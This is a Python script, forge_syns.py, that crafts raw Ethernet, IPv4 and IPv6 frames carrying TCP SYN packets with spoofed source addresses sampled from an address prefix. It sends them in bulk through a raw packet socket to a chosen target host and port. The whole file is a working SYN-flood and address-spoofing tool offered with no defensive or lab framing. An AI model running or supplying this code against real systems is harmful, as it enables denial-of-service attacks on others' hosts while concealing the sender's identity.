"""Sends TCP SYNs from addresses that nobody owns, one from each, as fast as Python can.

forge_syns.py INTERFACE GATEWAY_MAC SOURCE TARGET PORT [COUNT]: SOURCE is an address, or a prefix of
at most 2^32 addresses of which COUNT distinct ones are drawn.
"""
import ipaddress
import random
import socket
import struct
import sys

interface, gateway = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", ""))
sources = ipaddress.ip_network(sys.argv[3])
target = ipaddress.ip_address(sys.argv[4]).packed
port = int(sys.argv[5])
count = int(sys.argv[6]) if len(sys.argv) > 6 else 1


def internet_checksum(data):
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    return struct.pack("!H", ~(s + (s >> 16)) & 0xFFFF)


def syn(source):
    sport, isn = random.randrange(1024, 65536), random.getrandbits(32)
    # 24 bytes with the maximum segment size as its only option
    tcp = struct.pack("!HHIIBBHHHBBH", sport, port, isn, 0, 0x60, 2, 65535, 0, 0, 2, 4, 1460)
    pseudo_header = source + target + struct.pack("!HH", 6, len(tcp))
    return tcp[:16] + internet_checksum(pseudo_header + tcp) + tcp[18:]


def frame(source):
    tcp = syn(source)
    if len(source) == 16:
        ip, ethertype = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + source + target, b"\x86\xdd"
    else:
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 7, 0, 64, 6, 0) + source + target
        ip, ethertype = ip[:10] + internet_checksum(ip) + ip[12:], b"\x08\x00"
    return gateway + b"\x02\0\0\0\0\x77" + ethertype + ip + tcp


frames = [frame(sources[n].packed) for n in random.sample(range(sources.num_addresses), count)]
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((interface, 0))
for f in frames:
    out.send(f)
